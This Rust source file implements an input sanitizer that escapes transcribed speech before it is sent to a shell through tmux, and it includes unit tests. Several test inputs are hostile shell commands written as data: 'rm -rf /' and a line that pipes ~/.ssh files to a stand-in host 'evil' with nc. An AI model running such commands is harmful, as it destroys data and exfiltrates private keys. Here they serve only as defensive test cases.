//! Input sanitization at the injection boundary.
//!
//! Transcribed speech is untrusted input headed for a terminal: it may pick
//! up control sequences from a confused recogniser and, in tmux mode, it is
//! one `send-keys` away from a shell.  [`Sanitizer::sanitize`] applies, in
//! order:
//!
//! 1. strip ANSI CSI escape sequences,
//! 2. replace CR and LF with single spaces,
//! 3. escape shell metacharacters (when `escape_shell` is on),
//! 4. truncate to `max_length` bytes,
//! 5. trim leading/trailing whitespace.
//!
//! The transform is idempotent: the escape step recognises already-escaped
//! pairs instead of re-escaping them, so `sanitize(sanitize(x)) ==
//! sanitize(x)` holds and [`Sanitizer::is_safe`] can be defined as a simple
//! fixpoint check.

use regex::Regex;

/// Characters that must be escaped before the payload can pass through
/// tmux `send-keys` toward a shell.
pub const SHELL_METACHARACTERS: &str = "$`\\\"'|&;><(){}[]!*?~#";

fn is_metachar(c: char) -> bool {
    SHELL_METACHARACTERS.contains(c)
}

// ---------------------------------------------------------------------------
// Sanitizer
// ---------------------------------------------------------------------------

/// Deterministic payload cleaner.
///
/// # Example
///
/// ```
/// use push_to_talk::inject::Sanitizer;
///
/// let sanitizer = Sanitizer::new(500, true);
/// assert_eq!(
///     sanitizer.sanitize("echo $PATH; rm -rf /"),
///     r"echo \$PATH\; rm -rf /"
/// );
/// ```
pub struct Sanitizer {
    /// Maximum payload length in bytes.
    max_length: usize,
    /// Escape shell metacharacters.  Off for focused-window mode, where the
    /// payload is a keystroke sequence rather than a shell word.
    escape_shell: bool,
    ansi_pattern: Regex,
}

impl Sanitizer {
    pub fn new(max_length: usize, escape_shell: bool) -> Self {
        Self {
            max_length,
            escape_shell,
            // ESC [ <parameters> <final letter>
            ansi_pattern: Regex::new(r"\x1b\[[0-9;]*[a-zA-Z]").expect("ANSI pattern is valid"),
        }
    }

    /// Clean `text` into a byte-safe payload for the selected target.
    pub fn sanitize(&self, text: &str) -> String {
        if text.trim().is_empty() {
            return String::new();
        }

        // 1. ANSI CSI sequences
        let result = self.ansi_pattern.replace_all(text, "");

        // 2. Newlines become spaces; the payload is always a single line.
        let result: String = result
            .chars()
            .map(|c| if c == '\n' || c == '\r' { ' ' } else { c })
            .collect();

        // 3. Shell metacharacters
        let result = if self.escape_shell {
            escape_metacharacters(&result)
        } else {
            result
        };

        // 4. Length cap (bytes, backed off to a char boundary)
        let result = truncate_bytes(&result, self.max_length);

        // 5. Whitespace trim
        result.trim().to_string()
    }

    /// `true` iff `text` would pass through [`sanitize`](Self::sanitize)
    /// unchanged.
    pub fn is_safe(&self, text: &str) -> bool {
        text == self.sanitize(text)
    }

    pub fn max_length(&self) -> usize {
        self.max_length
    }

    pub fn escapes_shell(&self) -> bool {
        self.escape_shell
    }
}

/// Prefix unescaped metacharacters with a backslash, leaving already-escaped
/// pairs untouched.  Pair preservation is what makes the whole pipeline
/// idempotent.
fn escape_metacharacters(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();

    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                // An existing escape pair passes through verbatim.
                Some(&next) if is_metachar(next) => {
                    out.push('\\');
                    out.push(next);
                    chars.next();
                }
                // A lone backslash is itself a metacharacter.
                _ => out.push_str("\\\\"),
            }
        } else if is_metachar(c) {
            out.push('\\');
            out.push(c);
        } else {
            out.push(c);
        }
    }

    out
}

/// Truncate to at most `max` bytes without splitting a UTF-8 sequence.
fn truncate_bytes(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;

    fn shell_sanitizer() -> Sanitizer {
        Sanitizer::new(500, true)
    }

    fn plain_sanitizer() -> Sanitizer {
        Sanitizer::new(500, false)
    }

    // ---- the literal end-to-end case ---------------------------------------

    #[test]
    fn escapes_shell_injection_attempt() {
        let s = shell_sanitizer();
        assert_eq!(
            s.sanitize("echo $PATH; rm -rf /"),
            r"echo \$PATH\; rm -rf /"
        );
    }

    // ---- individual pipeline steps -----------------------------------------

    #[test]
    fn strips_ansi_csi_sequences() {
        let s = plain_sanitizer();
        assert_eq!(s.sanitize("he\x1b[31mllo\x1b[0m world"), "hello world");
    }

    #[test]
    fn replaces_newlines_with_spaces() {
        let s = plain_sanitizer();
        assert_eq!(s.sanitize("one\ntwo\r\nthree"), "one two  three");
    }

    #[test]
    fn escapes_every_metacharacter() {
        let s = shell_sanitizer();
        for c in SHELL_METACHARACTERS.chars() {
            let input = format!("a{c}b");
            let output = s.sanitize(&input);
            assert_eq!(output, format!("a\\{c}b"), "for metachar {c:?}");
        }
    }

    #[test]
    fn focused_mode_leaves_metacharacters_alone() {
        let s = plain_sanitizer();
        assert_eq!(s.sanitize("echo $PATH"), "echo $PATH");
    }

    #[test]
    fn truncates_to_max_length_bytes() {
        let s = Sanitizer::new(100, false);
        let long = "x".repeat(400);
        assert_eq!(s.sanitize(&long).len(), 100);
    }

    #[test]
    fn truncation_respects_char_boundaries() {
        let s = Sanitizer::new(100, false);
        // 3-byte characters; 100 is not a multiple of 3.
        let long = "日".repeat(200);
        let out = s.sanitize(&long);
        assert!(out.len() <= 100);
        assert!(out.chars().all(|c| c == '日'));
    }

    #[test]
    fn trims_surrounding_whitespace() {
        let s = plain_sanitizer();
        assert_eq!(s.sanitize("  hello  "), "hello");
    }

    #[test]
    fn empty_and_whitespace_inputs_yield_empty() {
        let s = shell_sanitizer();
        assert_eq!(s.sanitize(""), "");
        assert_eq!(s.sanitize("   \n\t "), "");
    }

    // ---- invariants ---------------------------------------------------------

    #[test]
    fn sanitize_is_idempotent() {
        let s = shell_sanitizer();
        let cases = [
            "plain text",
            "echo $PATH; rm -rf /",
            r"already \$escaped",
            "back\\slash",
            "trailing backslash \\",
            "mixed $ and \\$ and \\\\",
            "\x1b[2Jcleared & piped | here",
            "  spaced  out  ",
        ];
        for case in cases {
            let once = s.sanitize(case);
            let twice = s.sanitize(&once);
            assert_eq!(once, twice, "not idempotent for {case:?}");
        }
    }

    #[test]
    fn idempotent_across_truncation_boundary() {
        let s = Sanitizer::new(100, true);
        // The leading 'a' misaligns the escape pairs against the 100-byte
        // cap, so truncation splits a pair and leaves a trailing backslash.
        let input = format!("a{}", "$".repeat(120));
        let once = s.sanitize(&input);
        assert!(once.len() <= 100);
        assert!(once.ends_with('\\'), "expected a split escape pair");
        assert_eq!(s.sanitize(&once), once);
    }

    #[test]
    fn output_never_contains_raw_control_sequences() {
        let s = shell_sanitizer();
        let nasty = "a\rb\nc\x1b[31md";
        let out = s.sanitize(nasty);
        assert!(!out.contains('\r'));
        assert!(!out.contains('\n'));
        assert!(!out.contains('\x1b'));
    }

    #[test]
    fn escaped_output_has_no_unescaped_metacharacters() {
        let s = shell_sanitizer();
        let out = s.sanitize("cat ~/.ssh/* | nc evil 1337 & echo `id`");

        let mut chars = out.chars().peekable();
        while let Some(c) = chars.next() {
            if c == '\\' {
                // Every backslash starts an escape pair.
                let next = chars.next().expect("dangling backslash");
                assert!(is_metachar(next), "escape pair for non-metachar {next:?}");
            } else {
                assert!(!is_metachar(c), "unescaped metacharacter {c:?} in {out:?}");
            }
        }
    }

    #[test]
    fn output_length_is_bounded() {
        for max in [100, 250, 500] {
            let s = Sanitizer::new(max, true);
            let input = "$; &".repeat(500);
            assert!(s.sanitize(&input).len() <= max);
        }
    }

    #[test]
    fn is_safe_accepts_sanitized_output() {
        let s = shell_sanitizer();
        let out = s.sanitize("echo $HOME > /dev/null");
        assert!(s.is_safe(&out));
    }

    #[test]
    fn is_safe_rejects_raw_input() {
        let s = shell_sanitizer();
        assert!(!s.is_safe("echo $HOME"));
        assert!(!s.is_safe("line\nbreak"));
        assert!(s.is_safe("plain words"));
    }
}
